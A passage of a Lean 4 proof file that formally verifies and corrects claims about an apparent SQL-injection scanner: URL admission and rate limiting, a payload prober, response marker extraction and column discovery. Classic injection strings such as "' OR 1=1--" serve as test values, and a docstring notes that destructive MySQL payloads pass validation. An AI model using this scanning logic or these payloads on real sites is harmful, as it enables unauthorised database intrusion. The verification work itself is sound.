      by_cases hk : a = k
      · have hne : ¬(a = k2) := fun hc => h (hc ▸ hk)
        simp [eraseKeyA, hk, lookupA, hne, ih, hks]
      · by_cases h2 : a = k2 <;> simp [eraseKeyA, hk, lookupA, h2, ih, h]

theorem lookupA_setA {α : Type} (k k2 : String) (v : α) (l : List (String × α)) :
    lookupA k2 (setA k v l) = if k2 = k then some v else lookupA k2 l := by
  induction l with
  | nil =>
    by_cases h : k2 = k
    · subst h; simp [setA, lookupA]
    · have hks : ¬(k = k2) := fun hc => h hc.symm
      simp [setA, lookupA, h, hks]
  | cons hd tl ih =>
    cases hd with
    | mk a b =>
      by_cases ha : a = k
      · by_cases h2 : k2 = k
        · subst h2; simp [setA, ha, lookupA]
        · have hak2 : ¬(k = k2) := fun hc => h2 hc.symm
          have hbk2 : ¬(a = k2) := fun hc => h2 (hc ▸ ha)
          simp [setA, ha, lookupA, h2, hak2, hbk2, lookupA_eraseKeyA k k2 tl h2]
      · by_cases h2 : a = k2
        · have hk2 : ¬(k2 = k) := fun hc => ha (h2.trans hc)
          simp [setA, ha, lookupA, h2, hk2]
        · simp [setA, ha, lookupA, h2, ih]

theorem mem_eraseKeyA {α : Type} (k : String) (kv : String × α)
    (l : List (String × α)) (h : kv ∈ eraseKeyA k l) : kv ∈ l := by
  induction l with
  | nil => simp [eraseKeyA] at h
  | cons hd tl ih =>
    cases hd with
    | mk a b =>
      by_cases hk : a = k
      · simp only [eraseKeyA, if_pos hk] at h
        exact List.mem_cons_of_mem _ (ih h)
      · simp only [eraseKeyA, if_neg hk] at h
        rcases List.mem_cons.mp h with h1 | h1
        · exact h1 ▸ List.mem_cons_self _ _
        · exact List.mem_cons_of_mem _ (ih h1)

theorem mem_setA {α : Type} (k : String) (v : α) (kv : String × α)
    (l : List (String × α)) (h : kv ∈ setA k v l) : kv = (k, v) ∨ kv ∈ l := by
  induction l with
  | nil => simp [setA] at h; exact Or.inl h
  | cons hd tl ih =>
    cases hd with
    | mk a b =>
      by_cases ha : a = k
      · simp only [setA, if_pos ha] at h
        rcases List.mem_cons.mp h with h1 | h1
        · exact Or.inl h1
        · exact Or.inr (List.mem_cons_of_mem _ (mem_eraseKeyA k kv tl h1))
      · simp only [setA, if_neg ha] at h
        rcases List.mem_cons.mp h with h1 | h1
        · exact Or.inr (h1 ▸ List.mem_cons_self _ _)
        · rcases ih h1 with h2 | h2
          · exact Or.inl h2
          · exact Or.inr (List.mem_cons_of_mem _ h2)

theorem mem_addS (x y : String) (l : List String) :
    y ∈ addS x l ↔ y = x ∨ y ∈ l := by
  by_cases h : x ∈ l
  · simp only [addS, if_pos h]
    constructor
    · exact Or.inr
    · rintro (rfl | hy)
      · exact h
      · exact hy
  · simp [addS, if_neg h, List.mem_append, or_comm]

/-! ## Marker extraction (claim C7) -/

theorem hasSubList_cons_false {pat : List Char} {c : Char} {rest : List Char}
    (h : hasSubList pat (c :: rest) = false) :
    startsList pat (c :: rest) = false ∧ hasSubList pat rest = false := by
  simp only [hasSubList, Bool.or_eq_false_iff] at h
  exact h

theorem scanMarkers_eq_nil_of_no_marker (acc l : List Char)
    (h : hasSubList [':', ':'] l = false) : scanMarkers acc l = [] := by
  induction acc, l using scanMarkers.induct with
  | case1 acc => rfl
  | case2 acc c => rfl
  | case3 acc c1 c2 rest hclass ih =>
    rw [scanMarkers, if_pos hclass]
    exact ih (hasSubList_cons_false h).2
  | case4 acc c1 c2 rest hclass hcolon hemp ih =>
    exfalso
    have h1 := (hasSubList_cons_false h).1
    simp [startsList, hcolon.1, hcolon.2] at h1
  | case5 acc c1 c2 rest hclass hcolon hemp ih =>
    exfalso
    have h1 := (hasSubList_cons_false h).1
    simp [startsList, hcolon.1, hcolon.2] at h1
  | case6 acc c1 c2 rest hclass hcolon ih =>
    rw [scanMarkers, if_neg hclass, if_neg hcolon]
    exact ih (hasSubList_cons_false h).2

/-- C7.  Marker extraction: the body `"admin::"` yields the scalar value
`"admin"`, and any body containing no `::` yields `null`. -/
theorem c7_marker_extraction :
    extractDataFromResponse "admin::" = some "admin" ∧
    ∀ body : String, hasSubS "::" body = false →
      extractDataFromResponse body = none := by
  constructor
  · decide
  · intro body h
    have h2 : hasSubList [':', ':'] body.data = false := h
    rw [extractDataFromResponse, scanMarkers_eq_nil_of_no_marker [] body.data h2]
    rfl

/-- Witness for C7 at a concrete marker-free body. -/
theorem c7_marker_extraction_witness :
    hasSubS "::" "just a page" = false ∧
    extractDataFromResponse "just a page" = none :=
  ⟨by decide, c7_marker_extraction.2 "just a page" (by decide)⟩

/-! ## Catalog validation (claim C8) -/

/-- C8.  `validateItem(item, 'payload')` rejects exactly the non-strings and
the strings that trim to empty; every other string — the destructive
payloads of the advanced catalog included — passes, and filtering the
advanced MySQL catalog with it removes nothing. -/
theorem c8_validate_item :
    (∀ item : JsItem, validateItem item "payload" = false ↔
       item = JsItem.nonString ∨
       ∃ s, item = JsItem.str s ∧ trimChars s.data = []) ∧
    ADVANCED_MYSQL.filter (fun p => validateItem (.str p) "payload") =
      ADVANCED_MYSQL := by
  constructor
  · intro item
    cases item with
    | nonString => simp [validateItem]
    | str s =>
      simp only [validateItem, List.length_eq_zero]
      constructor
      · intro h
        refine Or.inr ⟨s, rfl, ?_⟩
        by_cases he : trimChars s.data = []
        · exact he
        · simp [he] at h
      · rintro (h | ⟨s2, hs2, he⟩)
        · exact absurd h (by simp)
        · cases hs2
          simp [he]
  · decide

/-! ## Candidate-gate lemmas -/

theorem isUrlTested_testedUrls (s : URLStore) (u : UrlInput) (now : Int) :
    ((isUrlTested s u now).2).testedUrls = s.testedUrls := by
  simp only [isUrlTested]
  repeat' split
  all_goals rfl

theorem isUrlTested_maxPaths (s : URLStore) (u : UrlInput) (now : Int) :
    ((isUrlTested s u now).2).maxPathsPerDomain = s.maxPathsPerDomain := by
  simp only [isUrlTested]
  repeat' split
  all_goals rfl

theorem markUrlAsTested_testedUrls (s : URLStore) (u : UrlInput) (now : Int) :
    (markUrlAsTested s u now).testedUrls = addS (normalizeUrl u) s.testedUrls := by
  cases u <;> rfl

theorem markUrlAsTested_maxPaths (s : URLStore) (u : UrlInput) (now : Int) :
    (markUrlAsTested s u now).maxPathsPerDomain = s.maxPathsPerDomain := by
  cases u <;> rfl

theorem submitStep_mem_testedUrls (s : URLStore) (u : UrlInput) (now : Int)
    (x : String) (h : x ∈ s.testedUrls) :
    x ∈ ((submitStep s u now).2).testedUrls := by
  simp only [submitStep]
  split
  · rw [isUrlTested_testedUrls]; exact h
  · rw [markUrlAsTested_testedUrls, isUrlTested_testedUrls]
    exact (mem_addS _ _ _).mpr (Or.inr h)

theorem runOps_mem_testedUrls (ops : List (UrlInput × Int)) (s : URLStore)
    (x : String) (h : x ∈ s.testedUrls) : x ∈ (runOps s ops).testedUrls := by
  induction ops generalizing s with
  | nil => exact h
  | cons op rest ih =>
    exact ih _ (submitStep_mem_testedUrls s op.1 op.2 x h)

theorem isUrlTested_true_of_mem (s : URLStore) (u : UrlInput) (now : Int)
    (h : normalizeUrl u ∈ s.testedUrls) : (isUrlTested s u now).1 = true := by
  unfold isUrlTested
  simp [h]

/-- C2.  After `markUrlAsTested` has committed a URL, any later admission
check on a URL with the same normalized form answers `true` (so a second
`admit` returns `false`), whatever other admit/commit rounds ran in
between. -/
theorem c2_exactly_once (s : URLStore) (u u2 : UrlInput) (tc : Int)
    (ops : List (UrlInput × Int)) (tq : Int)
    (h : normalizeUrl u2 = normalizeUrl u) :
    (isUrlTested (runOps (markUrlAsTested s u tc) ops) u2 tq).1 = true := by
  apply isUrlTested_true_of_mem
  rw [h]
  apply runOps_mem_testedUrls
  rw [markUrlAsTested_testedUrls]
  exact (mem_addS _ _ _).mpr (Or.inl rfl)

/-- Witness for C2: commit `/a`, run an unrelated round on `/b`, re-check
`/a`. -/
theorem c2_exactly_once_witness :
    normalizeUrl urlA = normalizeUrl urlA ∧
    (isUrlTested (runOps (markUrlAsTested gateCfgStore urlA 0) [(urlB, 1)]) urlA 7).1
      = true :=
  ⟨rfl, c2_exactly_once gateCfgStore urlA urlA 0 [(urlB, 1)] 7 rfl⟩

/-! ## Frame effect of the admission check (claim C9) -/

/-- Counterexample to C9 as stated: `storeC9`'s domain `ex.com` is at its
path cap with the cooldown elapsed, yet because the queried URL is already
in the global tested set, the check returns `true` and mutates nothing. -/
theorem c9_no_mutation_when_tested_cex :
    getDomain urlA = some "ex.com" ∧
    lookupA "ex.com" storeC9.seenDomains = some ["/a", "/b"] ∧
    storeC9.maxPathsPerDomain ≤ ["/a", "/b"].length ∧
    ¬((9999 : Int) - ((lookupA "ex.com" storeC9.lastTestedTime).getD 0)
        < storeC9.cooldownPeriod) ∧
    isUrlTested storeC9 urlA 9999 = (true, storeC9) := by
  refine ⟨rfl, rfl, by decide, by decide, ?_⟩
  decide

/-- C9 (amended).  Provided the URL's normalized form is not already in the
global tested set: whenever its domain record is at the path cap and the
cooldown has elapsed, the admission check itself clears the domain's paths
and stamps `lastTestedAt := now` before answering `false`. -/
theorem c9_admission_mutates (s : URLStore) (u : JsUrl) (now : Int)
    (paths : List String)
    (hnt : ¬(normalizeUrl (.valid u) ∈ s.testedUrls))
    (hd : lookupA u.hostname s.seenDomains = some paths)
    (hsz : paths.length ≥ s.maxPathsPerDomain)
    (hcd : ¬(now - (lookupA u.hostname s.lastTestedTime).getD 0 < s.cooldownPeriod)) :
    isUrlTested s (.valid u) now =
      (false, { s with seenDomains := setA u.hostname [] s.seenDomains,
                       lastTestedTime := setA u.hostname now s.lastTestedTime }) := by
  simp only [isUrlTested, getDomain]
  rw [if_neg hnt, hd]
  simp only [if_pos hsz]
  rw [if_neg hcd]

/-- Witness for C9 (amended) on the concrete store `storeC9b`. -/
theorem c9_admission_mutates_witness :
    ¬(normalizeUrl (.valid ⟨"http://ex.com", "ex.com", "/a", [("id", "1")]⟩)
        ∈ storeC9b.testedUrls) ∧
    lookupA "ex.com" storeC9b.seenDomains = some ["/a", "/b"] ∧
    isUrlTested storeC9b (.valid ⟨"http://ex.com", "ex.com", "/a", [("id", "1")]⟩) 9999 =
      (false, { storeC9b with seenDomains := setA "ex.com" [] storeC9b.seenDomains,
                              lastTestedTime := setA "ex.com" 9999 storeC9b.lastTestedTime }) :=
  ⟨by decide, rfl,
   c9_admission_mutates storeC9b ⟨"http://ex.com", "ex.com", "/a", [("id", "1")]⟩
     9999 ["/a", "/b"] (by decide) rfl (by decide) (by decide)⟩

/-! ## Per-domain rate limiting (claim C3) -/

theorem length_addS (x : String) (l : List String) :
    (addS x l).length ≤ l.length + 1 := by
  by_cases h : x ∈ l
  · simp [addS, h]
  · simp [addS, h]

theorem storeInv_isUrlTested (s : URLStore) (u : UrlInput) (now : Int)
    (hinv : StoreInv s) : StoreInv ((isUrlTested s u now).2) := by
  cases u with
  | invalid raw =>
    simp only [isUrlTested, getDomain]
    split
    · exact hinv
    · exact hinv
  | valid uu =>
    simp only [isUrlTested, getDomain]
    split
    · exact hinv
    · cases hulk : lookupA uu.hostname s.seenDomains with
      | none => simp only [hulk]; exact hinv
      | some ps0 =>
        simp only [hulk]
        split
        · split
          · exact hinv
          · intro d ps hlk
            dsimp only at hlk ⊢
            rw [lookupA_setA] at hlk
            by_cases hd : d = uu.hostname
            · rw [if_pos hd] at hlk
              injection hlk with hh
              rw [← hh]
              simp
            · rw [if_neg hd] at hlk
              exact hinv d ps hlk
        · exact hinv

theorem isUrlTested_false_paths (s : URLStore) (uu : JsUrl) (now : Int)
    (paths : List String)
    (hfalse : (isUrlTested s (.valid uu) now).1 = false)
    (hlk : lookupA uu.hostname ((isUrlTested s (.valid uu) now).2).seenDomains
             = some paths) :
    paths.length < s.maxPathsPerDomain ∨ paths = [] := by
  by_cases hmem : normalizeUrl (.valid uu) ∈ s.testedUrls
  · have ht := isUrlTested_true_of_mem s (.valid uu) now hmem
    rw [ht] at hfalse
    cases hfalse
  · simp only [isUrlTested, getDomain] at hfalse hlk
    rw [if_neg hmem] at hfalse hlk
    cases hulk : lookupA uu.hostname s.seenDomains with
    | none =>
      simp only [hulk] at hlk
      cases hlk
    | some ps0 =>
      simp only [hulk] at hfalse hlk
      by_cases hge : ps0.length ≥ s.maxPathsPerDomain
      · rw [if_pos hge] at hfalse hlk
        by_cases hcd : now - (lookupA uu.hostname s.lastTestedTime).getD 0
            < s.cooldownPeriod
        · rw [if_pos hcd] at hfalse
          cases hfalse
        · rw [if_neg hcd] at hlk
          dsimp only at hlk
          rw [lookupA_setA, if_pos rfl] at hlk
          injection hlk with hh
          exact Or.inr hh.symm
      · rw [if_neg hge] at hlk
        dsimp only at hlk
        rw [hulk] at hlk
        injection hlk with hh
        rw [← hh]
        exact Or.inl (lt_of_not_ge hge)

theorem storeInv_markUrlAsTested_invalid (s : URLStore) (raw : String) (now : Int)
    (hinv : StoreInv s) : StoreInv (markUrlAsTested s (.invalid raw) now) := by
  intro d ps hlk
  simp only [markUrlAsTested] at hlk ⊢
  exact hinv d ps hlk

theorem storeInv_markUrlAsTested_valid (s : URLStore) (uu : JsUrl) (now : Int)
    (h1 : 1 ≤ s.maxPathsPerDomain) (hinv : StoreInv s)
    (hroom : ∀ ps0, lookupA uu.hostname s.seenDomains = some ps0 →
      ps0.length < s.maxPathsPerDomain ∨ ps0 = []) :
    StoreInv (markUrlAsTested s (.valid uu) now) := by
  intro d ps hlk
  simp only [markUrlAsTested] at hlk ⊢
  rw [lookupA_setA] at hlk
  by_cases hd : d = uu.hostname
  · rw [if_pos hd] at hlk
    injection hlk with hh
    rw [← hh]
    cases hulk : lookupA uu.hostname s.seenDomains with
    | none =>
      exact le_trans (length_addS _ _) (by simpa using h1)
    | some ps0 =>
      rcases hroom ps0 hulk with hlt | hnil
      · exact le_trans (length_addS _ _) (by simpa using Nat.succ_le_of_lt hlt)
      · rw [hnil]
        exact le_trans (length_addS _ _) (by simpa using h1)
  · rw [if_neg hd] at hlk
    exact hinv d ps hlk

theorem submitStep_maxPaths (s : URLStore) (u : UrlInput) (now : Int) :
    ((submitStep s u now).2).maxPathsPerDomain = s.maxPathsPerDomain := by
  simp only [submitStep]
  split
  · exact isUrlTested_maxPaths s u now
  · rw [markUrlAsTested_maxPaths, isUrlTested_maxPaths]

theorem storeInv_submitStep (s : URLStore) (u : UrlInput) (now : Int)
    (h1 : 1 ≤ s.maxPathsPerDomain) (hinv : StoreInv s) :
    StoreInv ((submitStep s u now).2) := by
  simp only [submitStep]
  split
  · exact storeInv_isUrlTested s u now hinv
  · rename_i hfalse
    have hf : (isUrlTested s u now).1 = false := by
      cases h2 : (isUrlTested s u now).1
      · rfl
      · exact absurd h2 hfalse
    have hinv2 : StoreInv ((isUrlTested s u now).2) :=
      storeInv_isUrlTested s u now hinv
    have hmax2 : ((isUrlTested s u now).2).maxPathsPerDomain = s.maxPathsPerDomain :=
      isUrlTested_maxPaths s u now
    cases u with
    | invalid raw => exact storeInv_markUrlAsTested_invalid _ raw now hinv2
    | valid uu =>
      apply storeInv_markUrlAsTested_valid _ uu now
      · rw [hmax2]; exact h1
      · exact hinv2
      · intro ps0 hlk
        rw [hmax2]
        exact isUrlTested_false_paths s uu now ps0 hf hlk

theorem storeInv_runOps (ops : List (UrlInput × Int)) (s : URLStore)
    (h1 : 1 ≤ s.maxPathsPerDomain) (hinv : StoreInv s) :
    StoreInv (runOps s ops) := by
  induction ops generalizing s with
  | nil => exact hinv
  | cons op rest ih =>
    apply ih
    · rw [submitStep_maxPaths]; exact h1
    · exact storeInv_submitStep s op.1 op.2 h1 hinv

/-- C3.  With `maxPathsPerDomain = 2` and `cooldownPeriod = 5000`: of three
distinct paths on one domain submitted inside the cooldown window, exactly
the first two are admitted; a submission after the cooldown has elapsed is
admitted, and right after that admission check the domain's tested-path set
is empty again; and every domain's path-set size stays at or below
`maxPathsPerDomain` across any sequence of admit/commit rounds (for any
positive cap). -/
theorem c3_domain_rate_limit :
    (submitStep gateCfgStore urlA 0).1 = true ∧
    (submitStep gate1 urlB 1).1 = true ∧
    (submitStep gate2 urlC 2).1 = false ∧
    (isUrlTested gate3 urlD 6000).1 = false ∧
    lookupA "ex.com" ((isUrlTested gate3 urlD 6000).2).seenDomains = some [] ∧
    ∀ (s : URLStore) (ops : List (UrlInput × Int)),
      1 ≤ s.maxPathsPerDomain → StoreInv s → StoreInv (runOps s ops) := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, ?_⟩
  intro s ops h1 hinv
  exact storeInv_runOps ops s h1 hinv

/-- Witness for C3: the invariant holds after running the four-submission
scenario from the empty store. -/
theorem c3_domain_rate_limit_witness :
    1 ≤ gateCfgStore.maxPathsPerDomain ∧
    StoreInv (runOps gateCfgStore [(urlA, 0), (urlB, 1), (urlC, 2), (urlD, 6000)]) :=
  ⟨by decide,
   c3_domain_rate_limit.2.2.2.2.2 gateCfgStore
     [(urlA, 0), (urlB, 1), (urlC, 2), (urlD, 6000)] (by decide)
     (fun d ps h => by simp [gateCfgStore, lookupA] at h)⟩

/-! ## The injection prober (claim C4) -/

theorem probeParamsLoop_trace_cumulative (t : Transport) (accept : String → Bool)
    (v : String) (keys : List String) (ps : Params) (i : Nat) (r : Params)
    (h : ((probeParamsLoop t accept v keys ps).2).get? i = some r) :
    r = (keys.take (i + 1)).foldl (fun a k => setA k v a) ps := by
  induction keys generalizing ps i with
  | nil => simp [probeParamsLoop] at h
  | cons k ks ih =>
    simp only [probeParamsLoop] at h
    cases ht : t (setA k v ps) with
    | error e =>
      simp only [ht] at h
      cases i with
      | zero =>
        simp at h
        simp [List.take, h.symm]
      | succ j => simp at h
    | ok body =>
      simp only [ht] at h
      by_cases hacc : accept body = true
      · rw [if_pos hacc] at h
        cases i with
        | zero =>
          simp at h
          simp [List.take, h.symm]
        | succ j => simp at h
      · rw [if_neg hacc] at h
        cases i with
        | zero =>
          simp at h
          simp [List.take, h.symm]
        | succ j =>
          simp only [List.get?_cons_succ] at h
          have := ih (setA k v ps) j h
          simp only [List.take, List.foldl]
          exact this

theorem testBasicVulnerability_first_match (t : Transport) (keys : List String)
    (ps : Params) (maxLen : Nat) (payloads : List String) (sp : String)
    (tr : List Params)
    (h : testBasicVulnerability t keys ps maxLen payloads = .ok (some sp, tr)) :
    ∃ i p, payloads.get? i = some p ∧
      sanitizePayload (.str p) maxLen = .ok sp ∧
      (probeParamsLoop t detectionSig sp keys ps).1 = .hit ∧
      ∀ j q, j < i → payloads.get? j = some q →
        ∃ sq, sanitizePayload (.str q) maxLen = .ok sq ∧
          (probeParamsLoop t detectionSig sq keys ps).1 ≠ .hit := by
  induction payloads generalizing tr with
  | nil =>
    simp only [testBasicVulnerability] at h
    cases h
  | cons p rest ih =>
    simp only [testBasicVulnerability] at h
    cases hs : sanitizePayload (.str p) maxLen with
    | error e => rw [hs] at h; cases h
    | ok sp0 =>
      rw [hs] at h
      simp only [bind, Except.bind] at h
      cases hloop : (probeParamsLoop t detectionSig sp0 keys ps) with
      | mk pend ptr =>
        rw [hloop] at h
        cases pend with
        | hit =>
          simp only [Except.ok.injEq, Prod.mk.injEq, Option.some.injEq] at h
          refine ⟨0, p, rfl, ?_, ?_, ?_⟩
          · rw [hs, h.1]
          · rw [← h.1, hloop]
          · intro j q hj _
            exact absurd hj (Nat.not_lt_zero j)
        | err =>
          simp only [] at h
          cases hrest : testBasicVulnerability t keys ps maxLen rest with
          | error e => rw [hrest] at h; cases h
          | ok pr =>
            rw [hrest] at h
            simp only [bind, Except.bind, Except.ok.injEq, Prod.mk.injEq, Option.some.injEq] at h
            obtain ⟨i, p2, hget, hsan, hhit, hprior⟩ :=
              ih (pr.2) (by rw [hrest, ← h.1])
            refine ⟨i + 1, p2, hget, hsan, hhit, ?_⟩
            intro j q hj hq
            cases j with
            | zero =>
              cases hq
              exact ⟨sp0, hs, by rw [hloop]; simp⟩
            | succ j2 =>
              exact hprior j2 q (Nat.lt_of_succ_lt_succ hj) hq
        | exhausted =>
          simp only [] at h
          cases hrest : testBasicVulnerability t keys ps maxLen rest with
          | error e => rw [hrest] at h; cases h
          | ok pr =>
            rw [hrest] at h
            simp only [bind, Except.bind, Except.ok.injEq, Prod.mk.injEq, Option.some.injEq] at h
            obtain ⟨i, p2, hget, hsan, hhit, hprior⟩ :=
              ih (pr.2) (by rw [hrest, ← h.1])
            refine ⟨i + 1, p2, hget, hsan, hhit, ?_⟩
            intro j q hj hq
            cases j with
            | zero =>
              cases hq
              exact ⟨sp0, hs, by rw [hloop]; simp⟩
            | succ j2 =>
              exact hprior j2 q (Nat.lt_of_succ_lt_succ hj) hq

theorem testBasicVulnerability_exhausted (t : Transport) (keys : List String)
    (ps : Params) (maxLen : Nat) (payloads : List String)
    (h : ∀ p ∈ payloads, ∃ sq, sanitizePayload (.str p) maxLen = .ok sq ∧
      (probeParamsLoop t detectionSig sq keys ps).1 ≠ .hit) :
    ∃ tr, testBasicVulnerability t keys ps maxLen payloads = .ok (none, tr) := by
  induction payloads with
  | nil => exact ⟨[], rfl⟩
  | cons p rest ih =>
    obtain ⟨sq, hs, hnh⟩ := h p (List.mem_cons_self _ _)
    obtain ⟨tr, htr⟩ := ih (fun q hq => h q (List.mem_cons_of_mem _ hq))
    refine ⟨(probeParamsLoop t detectionSig sq keys ps).2 ++ tr, ?_⟩
    simp only [testBasicVulnerability, hs, bind, Except.bind]
    cases hloop : probeParamsLoop t detectionSig sq keys ps with
    | mk pend ptr =>
      cases pend with
      | hit => exact absurd (by rw [hloop]) hnh
      | err =>
        rw [htr]
      | exhausted =>
        rw [htr]

theorem testBasicVulnerability_err_continues (t : Transport) (keys : List String)
    (ps : Params) (maxLen : Nat) (p : String) (rest : List String) (sp : String)
    (tr0 : List Params)
    (hs : sanitizePayload (.str p) maxLen = .ok sp)
    (hl : probeParamsLoop t detectionSig sp keys ps = (.err, tr0)) :
    testBasicVulnerability t keys ps maxLen (p :: rest) =
      (testBasicVulnerability t keys ps maxLen rest).map
        (fun r => (r.1, tr0 ++ r.2)) := by
  simp only [testBasicVulnerability, hs, bind, Except.bind, hl]
  cases hrest : testBasicVulnerability t keys ps maxLen rest with
  | error e => rfl
  | ok pr => rfl

/-- Counterexample to C4 as stated: on a two-parameter URL, the second
request of a payload carries the payload in both parameters (the first
parameter is never restored), so requests do not carry the payload in
exactly one parameter. -/
theorem c4_single_param_cex :
    (testBasicVulnerability cleanT ["a", "b"] ps2 1000 ["' OR 1=1--"]).map
        (fun r => r.2) =
      .ok [[("a", "' OR 1=1--"), ("b", "2")],
           [("a", "' OR 1=1--"), ("b", "' OR 1=1--")]] ∧
    (testBasicVulnerability cleanT ["a", "b"] ps2 1000 ["' OR 1=1--"]).map
        (fun r => r.2.map (fun req => req.countP (fun kv => kv.2 == "' OR 1=1--"))) =
      .ok [1, 2] := by
  constructor
  · rfl
  · rfl

/-- C4 (amended).  The prober iterates the detection payload list in catalog
order and substitutes each payload into the query parameters cumulatively:
the `i`-th request of a payload carries the payload in the first `i`
parameters (earlier parameters are not restored).  Success is classified by
`detectionSig` (case-insensitive `sql`/`error`/`syntax` match); the first
matching payload is returned as the recorded evidence, `none` after all
payloads are exhausted, and a transport failure on one payload only skips to
the next payload. -/
theorem c4_prober_amended :
    (∀ (t : Transport) (accept : String → Bool) (v : String) (keys : List String)
       (ps : Params) (i : Nat) (r : Params),
       ((probeParamsLoop t accept v keys ps).2).get? i = some r →
       r = (keys.take (i + 1)).foldl (fun a k => setA k v a) ps) ∧
    (∀ (t : Transport) (keys : List String) (ps : Params) (maxLen : Nat)
       (payloads : List String) (sp : String) (tr : List Params),
       testBasicVulnerability t keys ps maxLen payloads = .ok (some sp, tr) →
       ∃ i p, payloads.get? i = some p ∧
         sanitizePayload (.str p) maxLen = .ok sp ∧
         (probeParamsLoop t detectionSig sp keys ps).1 = .hit ∧
         ∀ j q, j < i → payloads.get? j = some q →
           ∃ sq, sanitizePayload (.str q) maxLen = .ok sq ∧
             (probeParamsLoop t detectionSig sq keys ps).1 ≠ .hit) ∧
    (∀ (t : Transport) (keys : List String) (ps : Params) (maxLen : Nat)
       (payloads : List String),
       (∀ p ∈ payloads, ∃ sq, sanitizePayload (.str p) maxLen = .ok sq ∧
         (probeParamsLoop t detectionSig sq keys ps).1 ≠ .hit) →
       ∃ tr, testBasicVulnerability t keys ps maxLen payloads = .ok (none, tr)) ∧
    (∀ (t : Transport) (keys : List String) (ps : Params) (maxLen : Nat)
       (p : String) (rest : List String) (sp : String) (tr0 : List Params),
       sanitizePayload (.str p) maxLen = .ok sp →
       probeParamsLoop t detectionSig sp keys ps = (.err, tr0) →
       testBasicVulnerability t keys ps maxLen (p :: rest) =
         (testBasicVulnerability t keys ps maxLen rest).map
           (fun r => (r.1, tr0 ++ r.2))) :=
  ⟨probeParamsLoop_trace_cumulative, testBasicVulnerability_first_match,
   testBasicVulnerability_exhausted, testBasicVulnerability_err_continues⟩

/-- Witness for C4 (amended) on concrete runs: the cumulative-substitution
equation at the second request of a two-parameter probe, a matched detection
run, a fully exhausted run, and an error-skipping run. -/
theorem c4_prober_amended_witness :
    ([("a", "' OR 1=1--"), ("b", "' OR 1=1--")] : Params) =
      ((["a", "b"].take 2).foldl (fun a k => setA k "' OR 1=1--" a) ps2) ∧
    (∃ i p, DET1.get? i = some p ∧
       sanitizePayload (.str p) 1000 = .ok "' OR '1'='1" ∧
       (probeParamsLoop stub1 detectionSig "' OR '1'='1" ["id"] ps1).1 = .hit ∧
       ∀ j q, j < i → DET1.get? j = some q →
         ∃ sq, sanitizePayload (.str q) 1000 = .ok sq ∧
           (probeParamsLoop stub1 detectionSig sq ["id"] ps1).1 ≠ .hit) ∧
    (∃ tr, testBasicVulnerability cleanT ["a", "b"] ps2 1000 ["' OR 1=1--"] =
       .ok (none, tr)) ∧
    testBasicVulnerability errT ["id"] ps1 1000 ["' OR 1=1--", "pay2"] =
      (testBasicVulnerability errT ["id"] ps1 1000 ["pay2"]).map
        (fun r => (r.1, [[("id", "' OR 1=1--")]] ++ r.2)) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · exact c4_prober_amended.1 cleanT detectionSig "' OR 1=1--" ["a", "b"] ps2 1 _
      (by decide)
  · exact c4_prober_amended.2.1 stub1 ["id"] ps1 1000 DET1 "' OR '1'='1"
      [[("id", "' OR '1'='1")]] (by rfl)
  · refine c4_prober_amended.2.2.1 cleanT ["a", "b"] ps2 1000 ["' OR 1=1--"] ?_
    intro p hp
    have hpv : p = "' OR 1=1--" := by
      cases hp with
      | head => rfl
      | tail _ hq => cases hq
    exact ⟨"' OR 1=1--", by subst hpv; rfl, by decide⟩
  · exact c4_prober_amended.2.2.2 errT ["id"] ps1 1000 "' OR 1=1--" ["pay2"]
      "' OR 1=1--" [[("id", "' OR 1=1--")]] (by rfl) (by rfl)

/-! ## Column discovery (claim C5) -/

theorem findColumnCountAux_first (t : Transport) (keys : List String)
    (ps : Params) (maxLen : Nat) :
    ∀ (payloads : List String) (n i : Nat) (p sp : String),
    payloads.get? i = some p →
    (∀ j q, j < i → payloads.get? j = some q →
      ∃ sq, sanitizePayload (.str q) maxLen = .ok sq ∧
        (probeParamsLoop t colAccept sq keys ps).1 ≠ .hit) →
    sanitizePayload (.str p) maxLen = .ok sp →
    (probeParamsLoop t colAccept sp keys ps).1 = .hit →
    ∃ tr, findColumnCountAux t keys ps maxLen n payloads = .ok (n + i + 1, tr) := by
  intro payloads
  induction payloads with
  | nil =>
    intro n i p sp hget _ _ _
    simp at hget
  | cons p0 rest ih =>
    intro n i p sp hget hprior hs hhit
    cases i with
    | zero =>
      simp only [List.get?_cons_zero, Option.some.injEq] at hget
      subst hget
      simp only [findColumnCountAux, hs, bind, Except.bind]
      cases hloop : probeParamsLoop t colAccept sp keys ps with
      | mk pend ptr =>
        cases pend with
        | hit => exact ⟨ptr, rfl⟩
        | err => exact absurd (by rw [hloop] at hhit; exact hhit) (by simp)
        | exhausted => exact absurd (by rw [hloop] at hhit; exact hhit) (by simp)
    | succ i2 =>
      obtain ⟨sq, hsq, hnh⟩ := hprior 0 p0 (Nat.succ_pos _) rfl
      simp only [findColumnCountAux, hsq, bind, Except.bind]
      cases hloop : probeParamsLoop t colAccept sq keys ps with
      | mk pend ptr =>
        cases pend with
        | hit => exact absurd (by rw [hloop]) hnh
        | err =>
          obtain ⟨tr, htr⟩ := ih (n + 1) i2 p sp hget
            (fun j q hj hq => hprior (j + 1) q (Nat.succ_lt_succ hj) hq) hs hhit
          refine ⟨ptr ++ tr, ?_⟩
          rw [htr]
          have harith : n + 1 + i2 + 1 = n + (i2 + 1) + 1 := by omega
          rw [harith]
        | exhausted =>
          obtain ⟨tr, htr⟩ := ih (n + 1) i2 p sp hget
            (fun j q hj hq => hprior (j + 1) q (Nat.succ_lt_succ hj) hq) hs hhit
          refine ⟨ptr ++ tr, ?_⟩
          rw [htr]
          have harith : n + 1 + i2 + 1 = n + (i2 + 1) + 1 := by omega
          rw [harith]

theorem findColumnCountAux_none (t : Transport) (keys : List String)
    (ps : Params) (maxLen : Nat) (payloads : List String) (n : Nat)
    (h : ∀ p ∈ payloads, ∃ sq, sanitizePayload (.str p) maxLen = .ok sq ∧
      (probeParamsLoop t colAccept sq keys ps).1 ≠ .hit) :
    ∃ tr, findColumnCountAux t keys ps maxLen n payloads = .ok (0, tr) := by
  induction payloads generalizing n with
  | nil => exact ⟨[], rfl⟩
  | cons p rest ih =>
    obtain ⟨sq, hs, hnh⟩ := h p (List.mem_cons_self _ _)
    obtain ⟨tr, htr⟩ := ih (n + 1) (fun q hq => h q (List.mem_cons_of_mem _ hq))
    refine ⟨(probeParamsLoop t colAccept sq keys ps).2 ++ tr, ?_⟩
    simp only [findColumnCountAux, hs, bind, Except.bind]
